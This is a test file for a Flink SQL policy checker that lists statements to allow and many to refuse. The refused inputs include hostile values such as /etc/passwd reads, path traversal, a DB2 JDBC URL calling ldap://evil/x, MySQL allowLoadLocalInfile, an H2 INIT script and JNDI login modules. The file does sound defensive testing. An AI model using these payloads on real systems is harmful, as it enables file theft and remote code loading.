import { FlinkSqlPolicy } from './FlinkSqlPolicy';
import {
  checkFlinkScript,
  checkFlinkSetting,
  checkFlinkStatement,
} from './checkStatement';
import { blankSqlComments } from './readTokens';

const closed: FlinkSqlPolicy = {
  allowedPaths: [],
  allowJars: false,
  ownJobs: [],
};
const open: FlinkSqlPolicy = {
  allowedPaths: ['s3://lake/raw', '/srv/data', 'file:///srv/jars/'],
  allowJars: true,
};
const messages = (sql: string, policy = closed) =>
  checkFlinkStatement(sql, policy).map(({ message }) => message);
const table = (options: string) =>
  `CREATE TABLE t (a INT) WITH ('connector' = 'x', ${options})`;

test.each([
  'SELECT 1',
  "SELECT '/etc/passwd', 'file:///x' || name FROM t WHERE path = '/etc'",
  'SHOW TABLES',
  'WITH a AS (SELECT 1) SELECT * FROM a',
  "SELECT U&'\\0041' FROM t",
  "CREATE TABLE t (a INT) WITH ('connector' = 'datagen', 'rows-per-second' = '5')",
  table(
    "'topic' = 'orders', 'properties.bootstrap.servers' = 'localhost:9092,kafka:9092'",
  ),
  table(
    "'url' = 'jdbc:postgresql://db:5432/shop?currentSchema=a', 'table-name' = 'orders'",
  ),
  table("'url' = 'jdbc:mysql://db/shop?useSSL=false&serverTimezone=UTC'"),
  table(
    "'url' = 'jdbc:postgresql://db/shop?sslmode=verify-full&sslfactory=org.postgresql.ssl.SingleCertValidatingFactory&sslfactoryarg=-----BEGIN%20CERTIFICATE-----%0AMII%3D'",
  ),
  table(
    "'url' = 'jdbc:postgresql://db/shop?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory'",
  ),
  table(
    "'hosts' = 'http://elastic:9200;http://elastic2:9200', 'index' = 'a-{ts|yyyy}'",
  ),
  table("'csv.field-delimiter' = '/', 'zookeeper.znode.parent' = '/hbase'"),
  table(
    '\'properties.sasl.jaas.config\' = \'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="b/c";\'',
  ),
  table("'key.fields' = 'a;b', 'scan.startup.timestamp-millis' = '1'"),
  "ALTER TABLE t SET ('sink.parallelism' = '2')",
  "INSERT INTO t SELECT * FROM s /*+ OPTIONS('scan.startup.mode'='latest-offset') */",
  "CREATE CATALOG c WITH ('type' = 'generic_in_memory')",
  "CREATE CATALOG c WITH ('type'='jdbc', 'base-url'='jdbc:postgresql://db:5432')",
  "CREATE FUNCTION f AS 'com.example.F'",
  'SET',
  "SET 'table.exec.state.ttl' = '1 h'",
  "SET 'execution.checkpointing.interval' = '10s'",
  "SET 'table.sql-dialect' = 'default'",
  "RESET 'pipeline.name'",
  'RESET',
  'LOAD MODULE core',
  'EXPLAIN SELECT 1',
  'EXECUTE STATEMENT SET BEGIN INSERT INTO a SELECT 1; INSERT INTO b SELECT 2; END',
  "CALL sys.compact('db.orders')",
  '',
])('lets %s run', sql => {
  expect(messages(sql)).toEqual([]);
});

const path = 'outside of the paths that SQL may reach';
test.each([
  [table("'path' = 'file:///etc/passwd'"), path],
  [table("'path' = '/etc/passwd'"), path],
  [table("'path' = 'etc/passwd'"), path],
  [table("'PATH' = 'x'"), path],
  [table("' path ' = 'x'"), path],
  [table("/* ' */ 'path' /* = 'a' */ = -- '\n 'file:/etc/passwd'"), path],
  [table("'path' = // 'x\n 'FILE:/etc/passwd'"), path],
  [table("'path' = 's3://lake/raw/x'"), path],
  [table("'something' = 's3://lake/raw/x'"), path],
  [table("'something' = 'hdfs:///x'"), path],
  [table("'something' = 'a,/etc/passwd'"), path],
  [table("'something' = '~/x'"), path],
  [table("'something' = '\\\\host\\share'"), path],
  [table("'something' = 'C:\\x'"), path],
  [table("'something' = 'a/../../etc'"), path],
  [table("'something' = 'jar:file:/x.jar!/y'"), path],
  [table("'something' = '${file:/etc/passwd:root}'"), path],
  [table("'properties.ssl.truststore.location' = 'x.jks'"), path],
  [table("'debezium.schema.history.internal.file.filename' = 'x'"), path],
  [table("'jdbc.properties.trustCertificateKeyStoreUrl' = 'x'"), path],
  [table("'path' = 'file:' '///etc/passwd'"), 'Two literals in a row'],
  [table("'path' = 'file:'\n'///etc/passwd'"), 'Two literals in a row'],
  [table("'path' = U&'\\0066ile:///etc/passwd'"), 'without a prefix'],
  [table("'path' = _UTF16'file:///etc/passwd'"), 'without a prefix'],
  [table("U&'p\\0061th' = 'x'"), 'without a prefix'],
  ["REPLACE TABLE t WITH ('path' = U&'x') AS SELECT 1", 'without a prefix'],
  ["CREATE TABLE t WITH ('path' = '/x') AS SELECT 1", path],
  ["CREATE TABLE t LIKE s WITH ('path' = '/x')", path],
  ["ALTER TABLE t SET ('path' = '/x')", path],
  ["SELECT * FROM t /*+ OPTIONS('path' = '/x') */", path],
  ["SELECT * FROM t /*+ options(path = '/x') */", path],
  ["SELECT * FROM t /*+ OPTIONS(`path` = '/x') */", path],
  ["SELECT * FROM t /*+ OPTIONS('path' = 'file:' '/x') */", 'in a row'],
  [
    "SELECT * FROM t /*+ -- '\n OPTIONS('path' = '/x') */ -- '",
    'hold a comment',
  ],
  [
    "SELECT * FROM t /*+ // '\n OPTIONS('path' = '/x') */ -- '",
    'hold a comment',
  ],
  ["EXPLAIN SELECT * FROM t /*+ OPTIONS('path' = '/x') */", path],
  ["INSERT INTO t /*+ OPTIONS('path' = '/x') */ SELECT 1", path],
  [
    "EXECUTE STATEMENT SET BEGIN INSERT INTO t /*+ OPTIONS('path' = '/x') */ SELECT 1; END",
    path,
  ],
  [table("'url' = 'jdbc:derby:/tmp/x'"), 'JDBC URL of a known kind'],
  [table("'url' = 'jdbc:sqlite:x.db'"), 'JDBC URL of a known kind'],
  // DB2 reads parameters behind ":", Teradata behind "/".
  [
    table(
      "'url' = 'jdbc:db2://db:50000/x:clientRerouteServerListJNDIName=ldap://evil/x;'",
    ),
    'parameters in the name of its database',
  ],
  [
    table("'url' = 'jdbc:teradata://db/LOGMECH=BROWSER,BROWSER=x'"),
    'parameters in the name of its database',
  ],
  [table("'url' = 'JDBC:h2:mem:;INIT=RUNSCRIPT FROM ''x'''"), 'JDBC URL'],
  [
    table("'url' = 'jdbc:mysql://db/x?allowLoadLocalInfile=true'"),
    'JDBC parameter "allowLoadLocalInfile"',
  ],
  [
    table("'url' = 'jdbc:postgresql://db/x?sslfactory=a.B'"),
    'JDBC parameter "sslfactory"',
  ],
  [
    table("'url' = 'jdbc:postgresql://db/x?sslfactoryarg=file:/etc/passwd'"),
    'JDBC parameter "sslfactoryarg"',
  ],
  [
    table(
      "'url' = 'jdbc:mysql://db/x?useSSL=false&allowLoad%4CocalInfile=true'",
    ),
    'JDBC parameter',
  ],
  [
    table("'url' = 'jdbc:mysql://(host=db,allowLoadLocalInfile=true)/x'"),
    'JDBC URL',
  ],
  [
    table("'url' = 'jdbc:mysql://db,address=(allowLoadLocalInfile=true)/x'"),
    'JDBC URL',
  ],
  [
    table(
      "'url' = 'jdbc:postgresql://db/x?socketFactory=a.B&socketFactoryArg=c'",
    ),
    'JDBC parameter "socketFactory"',
  ],
  [
    table("'jdbc.properties.allowLoadLocalInfile' = 'true'"),
    'loads code or reads files',
  ],
  [
    table("'properties.config.providers' = 'file'"),
    'loads code or reads files',
  ],
  [table("'properties.interceptor.classes' = 'a.B'"), 'loads code'],
  [
    table(
      "'properties.sasl.jaas.config' = 'com.sun.security.auth.module.JndiLoginModule required x=\"y\";'",
    ),
    'PlainLoginModule',
  ],
  [
    table(
      "'properties.sasl.jaas.config' = 'org.apache.kafka.common.security.plain.PlainLoginModule required; com.sun.security.auth.module.JndiLoginModule required x=\"y\";'",
    ),
    'PlainLoginModule',
  ],
  [
    "CREATE CATALOG c WITH ('type' = 'paimon', 'warehouse' = 'warehouse')",
    path,
  ],
  ["CREATE CATALOG c WITH ('type' = 'hive')", 'Hive catalog'],
  [
    "CREATE CATALOG c WITH ('type' = 'iceberg', 'catalog-impl' = 'a.B')",
    'loads code',
  ],
  ["CREATE CATALOG c WITH ('type' = 'x', 'hive-conf-dir' = 'conf')", path],
  ["ADD JAR '/x.jar'", 'does not allow jars'],
  ["add /* x */ jar\n'x.jar'", 'does not allow jars'],
  ["CREATE FUNCTION f AS 'a.B' USING JAR '/x.jar'", 'does not allow jars'],
  [
    "CREATE FUNCTION f AS 'a.B' LANGUAGE JAVA USING JAR 'a.jar', JAR 'b.jar'",
    'does not allow jars',
  ],
  ["CREATE FUNCTION f AS 'm.f' LANGUAGE PYTHON", 'Python'],
  ['LOAD MODULE hive', 'Only the module core'],
  [
    "LOAD MODULE `hive` WITH ('hive-version' = '3.1.3')",
    'Only the module core',
  ],
  ["COMPILE PLAN '/x.json' FOR INSERT INTO a SELECT 1", path],
  ["EXECUTE PLAN 'x.json'", path],
  ["EXPLAIN PLAN '/x.json'", path],
  ["SET '$internal.pipeline.job-id' = 'x'", 'may not be set'],
  ["SET 'execution.target' = 'local'", 'may not be set'],
  ["SET 'rest.address' = 'x'", 'may not be set'],
  ["SET 'pipeline.jars' = 'file:///x.jar'", 'may not be set'],
  ["SET 'pipeline.classpaths' = 'x'", 'may not be set'],
  ["SET 'PIPELINE.JARS' = 'x'", 'may not be set'],
  ["SET 'python.files' = 'x'", 'may not be set'],
  ["SET 'security.kerberos.login.keytab' = 'x'", 'may not be set'],
  ["SET 'high-availability.type' = 'x'", 'may not be set'],
  ["SET 'env.java.opts' = 'x'", 'may not be set'],
  ["SET 'fs.default-scheme' = 'file:///'", 'may not be set'],
  ["SET 'execution.savepoint.path' = '/x'", path],
  ["SET 'execution.checkpointing.dir' = 'file:///x'", path],
  ["SET 'state.savepoints.dir' = 'x'", path],
  ["SET 'state.backend' = 'com.example.Factory'", 'no class'],
  ["SET 'table.sql-dialect' = 'hive'", "stays 'default'"],
  ["SET 'table.sql-dialect' = ' HIVE '", "stays 'default'"],
  ['SET execution.target = local', "Write SET 'key' = 'value'"],
  ['SET table.sql-dialect=hive', "Write SET 'key' = 'value'"],
  ["SET 'a' = 'b' 'c'", "Write SET 'key' = 'value'"],
  ["SET U&'a' = 'b'", "Write SET 'key' = 'value'"],
  ['RESET table.x', "Write RESET 'key'"],
  ["STOP JOB '0123' WITH SAVEPOINT", 'job that you started'],
  ['QUIT', 'not known here'],
  ["SOURCE 'x.sql'", 'not known here'],
  ['!sh', 'not known here'],
  ["CALL sys.export('/x')", path],
  ["CALL sys.export('fi' 'le:/x')", 'in a row'],
  ["SELECT 1; ADD JAR '/x.jar'", 'Only one statement'],
  ["SELECT 'a", 'is not closed'],
  ['SELECT /* a', 'is not closed'],
  ["LOAD DATA LOCAL INPATH '/x' INTO TABLE t", 'not known here'],
])('refuses %s', (sql, message) => {
  expect(messages(sql)).toContainEqual(expect.stringContaining(message));
});

describe('with an allow-list', () => {
  test.each([
    table("'path' = 's3://lake/raw/orders'"),
    table("'path' = 's3://lake/raw'"),
    table("'path' = 'S3://LAKE/raw/'"),
    table("'path' = 'file:///srv/data/a.csv'"),
    table("'path' = 'file:/srv/data'"),
    table("'path' = '/srv//data/a'"),
    "ADD JAR '/srv/jars/a.jar'",
    "CREATE FUNCTION f AS 'a.B' USING JAR 'file:///srv/jars/a.jar'",
    "COMPILE PLAN '/srv/data/p.json' FOR INSERT INTO a SELECT 1",
    "SET 'execution.savepoint.path' = 's3://lake/raw/savepoint-1'",
    "STOP JOB '0123' WITH SAVEPOINT",
    'LOAD MODULE hive',
  ])('lets %s run', sql => {
    expect(messages(sql, open)).toEqual([]);
  });

  test.each([
    's3://lake/rawer',
    's3://lake/raw/../secret',
    's3://lake/raw/%2e%2e/secret',
    's3://lake2/raw',
    's3a://lake/raw',
    's3://user@lake/raw',
    '/srv/data2',
    '/srv/data/../../etc/passwd',
    '/srv/data/./../x',
    'file://host/srv/data',
    'file:srv/data',
    'file:////etc/passwd',
    'srv/data',
    '/srv/data\\..\\x',
    '/srv/data /x',
  ])('refuses the path %s', place => {
    expect(messages(table(`'path' = '${place}'`), open)).toEqual([
      expect.stringContaining(path),
    ]);
  });

  it('refuses a jar elsewhere', () => {
    expect(messages("ADD JAR '/tmp/a.jar'", open)).toEqual([
      expect.stringContaining(
        'allowed are "s3://lake/raw", "/srv/data", "file:///srv/jars/"',
      ),
    ]);
  });
});

it('says where, in a script', () => {
  const script = "SELECT 1;\nADD JAR '/x.jar';";
  const [problem] = checkFlinkScript(script, closed);
  expect(script.slice(problem.start, problem.end)).toBe("'/x.jar'");
});

it('checks settings as SET does', () => {
  expect(checkFlinkSetting('parallelism.default', '2', closed)).toBeUndefined();
  expect(checkFlinkSetting('pipeline.jars', 'x', closed)).toContain('may not');
});

it('blanks comments and nothing else', () => {
  const sql = "SELECT '--', /* a\nb */ 1 /*+ h('/*') */ -- c\n+ 2";
  expect(blankSqlComments(sql)).toBe(
    "SELECT '--',     \n     1 /*+ h('/*') */     \n+ 2",
  );
});
